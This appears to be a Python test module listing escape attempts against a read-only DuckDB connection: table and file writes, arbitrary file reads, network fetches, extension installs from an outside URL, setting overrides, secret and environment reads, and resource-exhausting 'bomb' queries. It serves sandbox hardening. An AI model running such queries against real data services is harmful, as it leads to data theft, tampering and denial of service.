"""Ways out of a connection that is meant to read one file: what a curious, careless or hostile analyst might send.

`{out}` is an empty folder, `{canary}` a CSV file and `{warehouse}` the published file; `{url}` is a server that counts its
visitors. The steps of an attempt are sent one after the other.
"""

from dataclasses import dataclass


@dataclass(frozen=True)
class Attempt:
    kind: str
    steps: tuple[str, ...]

    def __str__(self):
        return f"{self.kind}: {self.steps[-1]}"[:90]


def group(kind, *attempts):
    return [Attempt(kind, (each,) if isinstance(each, str) else each) for each in attempts]


ATTACH_FOR_WRITING = (
    "attach ':memory:' as scratch (read_write)",
    "use scratch",
    "detach warehouse",
    "attach '{warehouse}' as again (read_write)",
    "create table again.main.mine as select 1",
)

ATTEMPTS = [
    *group(
        "write tables",
        "insert into marts.cohort values ('S9', 1)",
        "update marts.cohort set age_years = 0",
        "delete from marts.cohort",
        "truncate marts.cohort",
        "drop table marts.cohort",
        "drop schema marts cascade",
        "alter table marts.cohort add column note varchar",
        "create table marts.mine as select 1 as one",
        "create view marts.mine as select 1 as one",
        "create macro marts.mine(x) as x + 1",
        "create sequence marts.mine",
        "create index mine on marts.cohort (subject_id)",
        "comment on table marts.cohort is 'mine'",
        "with gone as (delete from marts.cohort returning *) select * from gone",
        "merge into marts.cohort as c using (select 'S1' as subject_id) as s on c.subject_id = s.subject_id "
        "when matched then delete",
        ("begin", "delete from marts.cohort", "commit"),
        "explain analyze delete from marts.cohort",
    ),
    *group(
        "write files",
        "copy marts.cohort to '{out}/cohort.csv'",
        "copy (select 42) to '{out}/rows.parquet' (format parquet)",
        "copy (select 42) to '{out}/rows.json' (format json)",
        "copy (select 42 as a, 1 as b) to '{out}/parts' (format csv, partition_by (a))",
        "copy (select 42) to '{warehouse}.wal'",
        "copy (select 42) to '{warehouse}'",
        "copy (select 42) to '{warehouse}.tmp'",
        "export database '{out}/all'",
        "explain analyze copy (select 42) to '{out}/explained.csv'",
        "/* select 1 */ copy (select 42) to '{out}/hidden.csv' -- select 1",
        "select 1; copy (select 42) to '{out}/second.csv'",
        ("prepare p as copy (select 42) to '{out}/prepared.csv'", "execute p"),
        "call enable_logging('QueryLog', storage = 'file', storage_path = '{out}/log')",
        ("pragma enable_profiling = 'json'", "set profiling_output = '{out}/profile.json'", "select 42"),
        ("set log_query_path = '{out}/queries.sql'", "select 42"),
        ("set temp_directory = '{out}/spill'", "select count(*) from (select * from range(10) order by hash(range))"),
    ),
    *group(
        "read files",
        "select * from read_csv('{canary}')",
        "select * from '{canary}'",
        'from "{canary}"',
        "select content from read_text('{canary}')",
        "select content from read_blob('{canary}')",
        "select * from read_json('{canary}.json')",
        "select * from read_csv('{canary}.gz')",
        "select content from read_text('file://{canary}')",
        "select * from sniff_csv('{canary}')",
        "select file from glob('{out}/../*')",
        "select * from read_parquet('{canary}')",
        "select content from read_blob('{other}')",
        "select * from query_table('{canary}')",
        "select * from query('select * from read_csv(''{canary}'')')",
        "select (select max(content) from read_text('{canary}'))",
        "summarize '{canary}'",
        "from (describe select * from '{canary}')",
        ("create temp macro peek(f) as table select * from read_text(f)", "select content from peek('{canary}')"),
        ("set variable f = '{canary}'", "select content from read_text(getvariable('f'))"),
        ("create temp table mine (line varchar)", "copy mine from '{canary}'", "select * from mine"),
        ("prepare p as select content from read_text(?)", "execute p('{canary}')"),
        ("create temp view mine as select content from read_text('{canary}')", "select * from mine"),
        "select * from json_execute_serialized_sql(json_serialize_sql('select content from read_text(''{canary}'')'))",
        "select content from read_text('/dev/fd/0')",
        "import database '{out}/..'",
    ),
    *group(
        "other databases",
        "attach '{out}/mine.duckdb' as mine",
        "attach '{out}/mine.duckdb' as mine (read_write)",
        "attach if not exists '{out}/mine.db' as mine (type sqlite)",
        "attach 'ducklake:{out}/lake.ducklake' as lake",
        "attach '{url}/x.duckdb' as far",
        "attach '{other}' as other (read_only); select * from other.kept",
        ("attach '{other}' as other (read_only)", "select * from other.kept"),
        ("attach '{other}' as other", "create table other.mine as select 1"),
        "select * from read_duckdb('{other}', table_name = 'kept')",
        ATTACH_FOR_WRITING,
        ("attach ':memory:' as scratch", "use scratch", "copy (select 42) to '{out}/scratch.csv'"),
        ("detach warehouse", "attach '{warehouse}' as warehouse (read_write)", "delete from warehouse.marts.cohort"),
        "copy from database warehouse to other",
    ),
    *group(
        "network",
        "select * from read_csv('{url}/x.csv')",
        "select * from '{url}/x.parquet'",
        "select content from read_text('{url}/x')",
        "select * from read_parquet('s3://bucket/x.parquet')",
        ("load httpfs", "select * from read_csv('{url}/x.csv')"),
        "copy (select 42) to '{url}/x.csv'",
        ("set http_proxy = '{url}'", "select * from read_csv('{url}/x.csv')"),
    ),
    *group(
        "extensions",
        "install httpfs",
        "force install httpfs from '{url}'",
        "install h3 from community",
        "load '{out}/mine.duckdb_extension'",
        "load '{canary}'",
        "update extensions",
        ("set custom_extension_repository = '{url}'", "install spatial"),
        ("set extension_directory = '{out}/extensions'", "install httpfs from '{url}'"),
        "call start_ui()",
    ),
    *group(
        "settings",
        "set enable_external_access = true",
        "reset enable_external_access",
        "set disabled_filesystems = ''",
        "reset disabled_filesystems",
        "set lock_configuration = false",
        "pragma lock_configuration = false",
        "set memory_limit = '7GB'",
        "reset memory_limit",
        "pragma memory_limit = '7GB'",
        "set threads = 7",
        "set max_temp_directory_size = '7GB'",
        "set allowed_paths = ['{canary}']",
        "set allowed_directories = ['{out}']",
        "set access_mode = 'read_write'",
        "set python_enable_replacements = true",
        "set global allow_community_extensions = true",
        "set autoload_known_extensions = true",
        "set /* hidden */ memory_limit = '7GB'",
        "call enable_profiling()",
    ),
    *group(
        "secrets and surroundings",
        "select getenv('CARTWHEEL_CANARY')",
        "select * from duckdb_secrets()",
        "create secret mine (type s3, key_id 'a', secret 'b')",
        "create persistent secret mine (type http, bearer_token 'b')",
        "select * from bystander",
        "select * from which_secret('{url}', 'http')",
        "select value from duckdb_settings()",
        "select * from duckdb_extensions()",
    ),
    *group(
        "upkeep",
        "checkpoint",
        "force checkpoint",
        "vacuum",
        "vacuum analyze marts.cohort",
        "pragma force_checkpoint",
        "call truncate_duckdb_logs()",
    ),
]

BOMBS = [
    "select count(*) from range(1000000000) as a, range(1000000000) as b where a.range + b.range = 3",
    "with recursive forever as (select 1 as n union all select n + 1 from forever) select count(*) from forever",
    "select * from range(100000000000)",
    "select list(range) from range(1000000000)",
    "select string_agg(range::varchar) from range(1000000000)",
    "select * from range(1000000000) order by hash(range)",
    "select count(distinct hash(a.range, b.range)) from range(1000000) as a, range(1000000) as b",
    "select * from range(100000) as a, range(100000) as b order by hash(a.range, b.range)",
]
